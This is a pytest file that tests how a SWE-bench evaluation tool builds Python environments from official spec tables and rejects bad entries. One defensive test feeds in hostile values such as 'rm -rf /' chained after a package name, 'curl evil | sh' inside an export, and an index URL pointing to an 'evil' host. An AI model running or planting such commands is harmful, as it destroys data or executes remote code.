"""An official instance without `environment`: its environment from the official spec for its
(repo, version) — the installed swebench's table when it has one, else selfcoder's copy of
swebench 4.1.0's (selfcoder/eval/data/swebench_specs.json; the pinned swebench 5.0.2 has no
table) — or one line saying what is missing, an `error` for that instance only."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from selfcoder.eval.environments import EnvironmentProblem, EnvSpec, find_interpreter
from selfcoder.eval.official_specs import (SHIPPED, SHIPPED_NAME, environment_from_spec, shipped_table, specs_table,
                                           task_environment)
from selfcoder.core.task import Task

sys.path.insert(0, str(Path(__file__).resolve().parent))
from test_real_swebench import ID, ROOT, prepared_instance  # noqa: E402

SPECS = shipped_table()
SYMPY_1_7 = SPECS["sympy/sympy"]["1.7"]
GEN = ROOT / "scripts" / "gen-swebench-specs"
WHERE = f"{SHIPPED_NAME} for"


def test_the_shipped_copy_names_its_source_and_licence_and_holds_the_official_specs():
    data = json.loads(SHIPPED.read_text())
    assert data["source"].startswith("swebench 4.1.0 ") and data["generator"] == "scripts/gen-swebench-specs"
    assert data["licence"].startswith("MIT License, Copyright (c) 2023 Carlos E Jimenez")
    licence = (SHIPPED.parent / "SWEBENCH_LICENSE.txt").read_text()
    assert licence.startswith("MIT License") and "Permission is hereby granted" in licence
    assert len(SPECS) == 20 and sum(map(len, SPECS.values())) == 300  # the Python repositories of swebench 4.1.0
    for repo, versions in SPECS.items():
        for version, spec in versions.items():
            assert set(spec) <= set(data["fields"]) and isinstance(spec["python"], str), (repo, version)
            assert all(isinstance(spec.get(f, []), list) for f in ("pip_packages", "pre_install", "eval_commands"))
    assert SYMPY_1_7 == {"python": "3.9", "packages": "mpmath flake8", "pip_packages": ["mpmath==1.3.0",
                         "flake8-comprehensions"], "install": "python -m pip install -e .",
                         "test_cmd": "PYTHONWARNINGS='ignore::UserWarning,ignore::SyntaxWarning' bin/test -C --verbose"}
    django = SPECS["django/django"]["3.0"]
    assert django["python"] == "3.6" and django["packages"] == "requirements.txt"
    assert SPECS["django/django"]["1.4"]["python"] == "3.5"
    assert SPECS["matplotlib/matplotlib"]["3.5"]["packages"] == "environment.yml"
    assert specs_table() == (SPECS, SHIPPED_NAME)  # swebench 5.0.2 is installed: it has no table


def test_the_copy_is_what_the_generator_writes_from_the_pinned_wheel(tmp_path):
    """Regenerated from swebench 4.1.0's wheel (fetched, hash-pinned, by scripts/fetch-swebench-fixture):
    byte for byte the committed files; a wheel that is not the pinned one is refused in one line."""
    wheel = prepared_instance().parent / "downloads" / "swebench-4.1.0-py3-none-any.whl"
    if not wheel.is_file():
        pytest.fail(f"{wheel} is missing: run .venv/bin/python scripts/fetch-swebench-fixture")
    res = subprocess.run([sys.executable, str(GEN), "--wheel", str(wheel), "--out", str(tmp_path / "out")],
                         capture_output=True, text=True, timeout=300)
    assert res.returncode == 0, res.stderr
    for name in ("swebench_specs.json", "SWEBENCH_LICENSE.txt"):
        assert (tmp_path / "out" / name).read_bytes() == (SHIPPED.parent / name).read_bytes(), name
    res = subprocess.run([sys.executable, str(GEN), "--wheel", str(wheel), "--check"], capture_output=True, text=True,
                         timeout=300)
    assert res.returncode == 0 and "up to date" in res.stdout, res.stderr

    fake = tmp_path / "swebench-4.1.0-py3-none-any.whl"
    with zipfile.ZipFile(fake, "w") as z:  # the right names, other contents
        z.writestr("swebench/harness/constants/__init__.py", "MAP_REPO_VERSION_TO_SPECS_PY = {}\n")
    res = subprocess.run([sys.executable, str(GEN), "--wheel", str(fake), "--out", str(tmp_path / "fake")],
                         capture_output=True, text=True, timeout=300)
    assert res.returncode == 1 and "is not the expected 1243776f" in res.stderr and "Traceback" not in res.stderr
    assert len(res.stderr.strip().splitlines()) == 1 and not (tmp_path / "fake").exists()


def test_an_official_spec_becomes_a_python_version_and_plain_requirements():
    env, left_out = environment_from_spec(SYMPY_1_7, "s")
    assert env == EnvSpec(python="3.9", requirements=("mpmath", "flake8", "mpmath==1.3.0", "flake8-comprehensions"))
    assert "its install step ('python -m pip install -e .') is not run" in left_out
    env, _ = environment_from_spec(SPECS["psf/requests"]["2.0"], "s")
    assert env.python == "3.9" and env.requirements == ("pytest",)
    exports = {**SYMPY_1_7, "eval_commands": ["export LANG=en_US.UTF-8", "export LC_ALL=en_US.UTF-8"]}
    assert environment_from_spec(exports, "s")[0].install == "export LANG=en_US.UTF-8; export LC_ALL=en_US.UTF-8"


def test_what_an_official_spec_needs_and_cannot_have_offline_is_named_all_at_once():
    with pytest.raises(EnvironmentProblem, match=r"installs the repository's requirements.txt .* cannot be had offline"):
        environment_from_spec(SPECS["django/django"]["3.0"], f"{WHERE} django/django 3.0")
    with pytest.raises(EnvironmentProblem, match=r"runs pre-install steps as root .*apt-get.* cannot be had offline.*; "
                                                 r"it installs the repository's environment.yml"):
        environment_from_spec(SPECS["matplotlib/matplotlib"]["3.5"], f"{WHERE} matplotlib/matplotlib 3.5")
    with pytest.raises(EnvironmentProblem, match=r"runs commands before the tests \(sed -i"):
        environment_from_spec({**SPECS["django/django"]["3.0"], "packages": ""}, "d")
    try:
        find_interpreter(EnvSpec(python="3.5"))
    except EnvironmentProblem:
        with pytest.raises(EnvironmentProblem) as e:
            environment_from_spec(SPECS["django/django"]["1.7"], f"{WHERE} django/django 1.7")
        assert str(e.value).startswith(f"the official environment ({WHERE} django/django 1.7) needs Python 3.5: not "
                                       "installed on this machine (pyenv, /usr/bin, /usr/local/bin); it runs "
                                       "pre-install steps as root")
        assert "\n" not in str(e.value) and str(e.value).endswith('"requirements": ["mpmath==1.3.0"]})')
    else:  # this machine has Python 3.5
        assert environment_from_spec(SPECS["django/django"]["1.4"], "d")[0] == EnvSpec(python="3.5")


@pytest.mark.parametrize("hostile, named", [
    ({"pip_packages": ["foo; rm -rf /"]}, "needs 'foo; rm -rf /', which is no package specifier"),
    ({"pip_packages": ["--index-url=http://evil/"]}, "needs '--index-url=http://evil/', which is no package"),
    ({"packages": "numpy https://evil/x.whl"}, "needs 'https://evil/x.whl', which is no package specifier"),
    ({"packages": "numpy 'unclosed"}, "has a malformed packages field"),
    ({"pip_packages": "requests"}, "has a malformed pip_packages ('requests': not a list of strings)"),
    ({"eval_commands": ["export X=$(curl evil | sh)"]}, "runs commands before the tests (export X=$(curl"),
    ({"eval_commands": ["export LANG=C; rm -rf /"]}, "runs commands before the tests (export LANG=C; rm -rf /)"),
    ({"eval_commands": ["export X=`id`"]}, "runs commands before the tests (export X=`id`)"),
    ({"python": "3.9; rm -rf /"}, "names no Python version ('3.9; rm -rf /')"),
    ({"python": ["3.9"]}, "names no Python version (['3.9'])"),
])
def test_a_hostile_table_entry_is_refused_by_name(hostile, named):
    """A table is data from outside (an installed swebench, a damaged copy): nothing of it reaches
    pip or a shell unless it is a plain specifier or a plain `export NAME=value`."""
    with pytest.raises(EnvironmentProblem) as e:
        environment_from_spec({**SYMPY_1_7, **hostile}, "a table for sympy/sympy 1.7")
    assert named in str(e.value) and str(e.value).startswith("the official environment (a table for sympy/sympy 1.7)")


def test_own_tasks_and_instances_with_an_environment_do_not_look_up_a_spec():
    own = Task.model_validate({"instance_id": "a", "problem_statement": "p"})
    assert task_environment(own) == (None, "")
    named = Task.model_validate({"instance_id": "b", "problem_statement": "p", "repo": "sympy/sympy", "version": "1.7",
                                 "test_patch": "diff", "environment": {"python": "3.9"}})
    assert task_environment(named) == (EnvSpec(python="3.9"), "the instance's environment field")
    unknown = Task.model_validate({"instance_id": "c", "problem_statement": "p", "repo": "octo/cat", "version": "1.0",
                                   "test_patch": "diff"})
    with pytest.raises(EnvironmentProblem, match=rf"^no `environment`, and {SHIPPED_NAME} have no spec for octo/cat "
                                                 r"1.0 \(it holds SWE-bench's Python repositories\); give the instance"):
        task_environment(unknown)


def test_the_bundled_sympy_instance_without_its_environment_is_graded_through_the_official_spec(tmp_path,
                                                                                               sandbox_root):
    """The real instance with `environment` removed, graded by the CLI beside two instances whose
    official environment cannot be had here (apt steps and environment.yml; Python 3.5): the gold
    patch resolves in Python 3.9 with the spec's packages (wheels fetched by the fixture script,
    pip told to look nowhere else), the record names the spec, the other two are one-line errors."""
    prepared = prepared_instance()
    line = json.loads(prepared.read_text())
    del line["environment"]
    line["repo_path"] = str((prepared.parent / line["repo_path"]).resolve())
    unhad = [dict(line, instance_id="matplotlib__matplotlib-1", repo="matplotlib/matplotlib", version="3.5"),
             dict(line, instance_id="django__django-1", repo="django/django", version="1.4")]
    tasks = tmp_path / "no-environment.jsonl"
    tasks.write_text("".join(json.dumps(t) + "\n" for t in [line, *unhad]))
    env = dict(os.environ, SELFCODER_SANDBOX_ROOT=str(sandbox_root), SELFCODER_CONFIG=str(tmp_path / "none.toml"),
               PIP_NO_INDEX="1", PIP_FIND_LINKS=str(prepared.parent / "downloads"), COLUMNS="1000")
    res = subprocess.run([sys.executable, "-m", "selfcoder", "eval", str(tasks), "--predictions", "gold", "--out",
                          str(tmp_path / "out"), "--repos-root", str(prepared.parent)],
                         capture_output=True, text=True, env=env, timeout=900)
    assert "Traceback" not in res.stderr, res.stderr
    report = json.loads((tmp_path / "out" / "report.json").read_text())
    assert report["resolved_ids"] == [ID], report["instances"]
    _, source = specs_table()
    used = (f"{source} for sympy/sympy 1.7: Python 3.9, mpmath flake8 mpmath==1.3.0 flake8-comprehensions; its "
            "install step ('python -m pip install -e .') is not run: the tests import the working tree")
    assert report["instances"][ID]["environment"] == used
    record = json.loads((tmp_path / "out" / "instances" / f"{ID}.json").read_text())
    assert record["grade"]["environment"] == used and record["resolution"] == "RESOLVED_FULL"

    assert res.returncode == 1 and report["error_ids"] == sorted(t["instance_id"] for t in unhad)
    message = report["instances"]["matplotlib__matplotlib-1"]["message"]
    assert message.startswith(f"the official environment ({source} for matplotlib/matplotlib 3.5) runs pre-install "
                              "steps as root in its image (apt-get"), message
    assert "installs the repository's environment.yml" in message and "\n" not in message
    message = report["instances"]["django__django-1"]["message"]
    try:
        find_interpreter(EnvSpec(python="3.5"))
    except EnvironmentProblem:
        assert message.startswith(f"the official environment ({source} for django/django 1.4) needs Python 3.5: not "
                                  "installed on this machine"), message
    else:  # this machine has Python 3.5: django's tests are not in the snapshot
        assert "Python 3.5" not in message
